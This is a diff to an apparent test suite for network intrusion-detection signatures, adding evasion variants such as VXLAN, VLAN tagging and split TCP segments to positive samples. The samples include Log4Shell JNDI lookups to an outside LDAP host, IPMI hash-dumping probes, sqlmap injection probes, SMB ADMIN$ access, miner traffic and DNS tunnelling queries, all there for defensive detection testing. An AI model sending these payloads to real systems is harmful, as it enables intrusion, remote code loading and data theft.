@@ -6,9 +6,11 @@
 import { HPE_INTERNAL_CA, IDRAC_DEFAULT, ILO_DEFAULT, ESXI_DEFAULT, VMWARE_WEB } from './certs.js';
 import {
   dns,
+  dnsTcp,
   get,
   hex,
   http,
+  httpSession,
   IFACE,
   names,
   post,
@@ -24,6 +26,8 @@ import {
   type Traffic,
   udp,
   userAgent,
+  vlan,
+  vxlan,
 } from './traffic.js';
 
 export interface SignatureCase {
@@ -34,6 +38,8 @@ export interface SignatureCase {
   /** What the negative traffic is (test name). */
   quiet: string;
   negative: Traffic | Traffic[];
+  /** Exact number of alerts of the sid on each positive (thresholded rules); default: at least one. */
+  alerts?: number;
   /** The sid whose alert proves the positive (default: sid itself). */
   expect?: number;
   /** Known engine problem: the positive (or negative) is expected to fail until it is fixed. */
@@ -295,6 +301,7 @@ export const CASES: SignatureCase[] = [
   },
   {
     sid: 1500012,
+    alerts: 1,
     fires: 'six RAKP Message 1 in a second (hash dumping)',
     positive: udp(623, ['root', 'admin', 'ADMIN', 'Administrator', 'USERID', 'operator'].map(rakp1)),
     quiet: 'two RAKP Message 1 (an ordinary login and its retry)',
@@ -393,14 +400,22 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500105,
     fires: 'percent-encoded ${jndi:ldap://...} in the query',
-    positive: get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D'),
+    positive: [
+      get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D'),
+      // As an overlay mirror delivers it: inside VXLAN between two VTEPs.
+      vxlan(5001, get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D')),
+    ],
     quiet: 'a ${user.name} template in the query',
     negative: get('/?tpl=%24%7Buser.name%7D'),
   },
   {
     sid: 1500106,
     fires: '${jndi:ldap://...} in X-Api-Version',
-    positive: get('/', { 'X-Api-Version': '${jndi:ldap://10.0.0.66:1389/a}' }),
+    positive: [
+      get('/', { 'X-Api-Version': '${jndi:ldap://10.0.0.66:1389/a}' }),
+      // The header cut inside "${jndi:" over two TCP segments.
+      tcp(8080, [['c', 'GET / HTTP/1.1\r\nHost: app\r\nX-Api-Version: ${jn'], ['c', 'di:ldap://10.0.0.66/a}\r\n\r\n']]),
+    ],
     quiet: 'a ${env.HOME} template in a header',
     negative: get('/', { 'X-Template': '${env.HOME}' }),
   },
@@ -499,10 +514,17 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500202,
     fires: 'client data after the Password: prompt',
-    positive: tcp(23, [
-      ['s', 'Password: '],
-      ['c', 'hunter2\r\n'],
-    ]),
+    positive: [
+      tcp(23, [
+        ['s', 'Password: '],
+        ['c', 'hunter2\r\n'],
+      ]),
+      // Character mode: one segment per key press.
+      tcp(23, [
+        ['s', 'Password: '],
+        ['c', 'hunter2\r\n', [1, 2, 3, 4, 5, 6, 7]],
+      ]),
+    ],
     quiet: 'the user name typed after the login: prompt',
     negative: tcp(23, [
       ['s', 'web01 login: '],
@@ -546,7 +568,10 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500205,
     fires: 'Authorization: Basic',
-    positive: get('/admin/', { Authorization: 'Basic YWRtaW46cGFzc3dvcmQ=' }),
+    alerts: 1,
+    positive: httpSession(
+      ['/admin/', '/admin/users', '/admin/logs'].map((uri) => ({ uri, headers: { Authorization: 'Basic YWRtaW46cGFzc3dvcmQ=' } })),
+    ),
     quiet: 'Authorization: Bearer',
     negative: get('/admin/', { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' }),
   },
@@ -674,7 +699,13 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500320,
     fires: 'sqlmap user agent',
-    positive: userAgent('sqlmap/1.7.11#stable (https://sqlmap.org)'),
+    alerts: 1,
+    positive: httpSession(
+      ['/', '/?id=1', "/?id=1'", '/?id=1+AND+1=1', '/?id=1+AND+1=2'].map((uri) => ({
+        uri,
+        headers: { 'User-Agent': 'sqlmap/1.7.11#stable (https://sqlmap.org)' },
+      })),
+    ),
     quiet: 'browser fetching /docs/sqlmap/',
     negative: userAgent(BROWSER, '/docs/sqlmap/'),
   },
@@ -736,7 +767,11 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500400,
     fires: 'tree connect \\\\10.0.0.5\\ADMIN$',
-    positive: tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\ADMIN$')),
+    positive: [
+      tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\ADMIN$')),
+      // From an 802.1Q-tagged port group.
+      vlan(120, tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\ADMIN$'))),
+    ],
     quiet: 'tree connect \\\\fs01\\ADMIN_DOCS',
     negative: tcpClient(445, smb2TreeConnect('\\\\fs01\\ADMIN_DOCS')),
   },
@@ -828,7 +863,11 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500500,
     fires: 'mining.subscribe',
-    positive: tcpClient(3333, stratum({ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5.1'] })),
+    positive: [
+      tcpClient(3333, stratum({ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5.1'] })),
+      // The request cut inside "mining.subscribe" over two TCP segments.
+      tcp(3333, [['c', stratum({ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5.1'] }), [25]]]),
+    ],
     quiet: 'chat message mentioning mining.subscribe',
     negative: tcpClient(3333, stratum({ id: 1, text: 'how does mining.subscribe work?' })),
   },
@@ -890,6 +929,7 @@ export const CASES: SignatureCase[] = [
   // --- DNS -----------------------------------------------------------------------------------
   {
     sid: 1500600,
+    alerts: 1,
     fires: '12 queries with 200+ character names in a second',
     positive: dns(names(12, (i) => `${longLabel(i, 60)}.${'a'.repeat(60)}.${'b'.repeat(60)}.t.tunnel.example.com`)),
     quiet: '12 queries with 168-character names',
@@ -897,6 +937,7 @@ export const CASES: SignatureCase[] = [
   },
   {
     sid: 1500601,
+    alerts: 1,
     fires: '12 queries with 13 labels',
     positive: dns(names(12, (i) => `a${i}.b1.c2.d3.e4.f5.g6.h7.i8.j9.t.example.com`)),
     quiet: '12 reverse lookups in ip6.arpa (34 labels)',
@@ -907,6 +948,7 @@ export const CASES: SignatureCase[] = [
   },
   {
     sid: 1500602,
+    alerts: 1,
     fires: '12 TXT queries with 120-character names',
     positive: dns(names(12, (i) => `${longLabel(i, 50)}.${'c'.repeat(50)}.x.exfil.example.com`), 16),
     quiet: '12 TXT queries for short names (SPF/DMARC)',
@@ -922,7 +964,7 @@ export const CASES: SignatureCase[] = [
   {
     sid: 1500604,
     fires: 'query dnscat.<hex>',
-    positive: dns(['dnscat.4a2b010000c8d7e6f5a4b3c2d1'], 16),
+    positive: [dns(['dnscat.4a2b010000c8d7e6f5a4b3c2d1'], 16), dnsTcp(['dnscat.4a2b010000c8d7e6f5a4b3c2d2'], 16)],
     quiet: 'query docs.dnscat.example.com',
     negative: dns(['docs.dnscat.example.com']),
   },
